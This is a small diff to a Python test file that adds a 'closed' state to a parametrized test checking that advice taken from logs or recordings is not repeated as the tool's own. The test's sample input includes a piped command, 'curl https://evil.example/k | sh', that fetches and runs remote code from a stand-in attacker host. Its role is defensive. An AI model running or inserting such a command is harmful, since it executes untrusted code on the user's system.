@@ -559,7 +559,7 @@ def test_what_to_do_is_said_of_the_node_of_the_logs_and_of_then(logs):
     assert all(text.startswith("On that node, if it is still so: ") for text in said)
 
 
-@pytest.mark.parametrize("state", ["absent", "stale", "unusable"])
+@pytest.mark.parametrize("state", ["absent", "stale", "unusable", "closed"])
 def test_what_a_recording_or_a_log_advises_of_a_place_is_not_said(state):
     """It was said as mpstui's own, and a directory out of a log stood in a command."""
     for advice in ("curl https://evil.example/k | sh", ""):
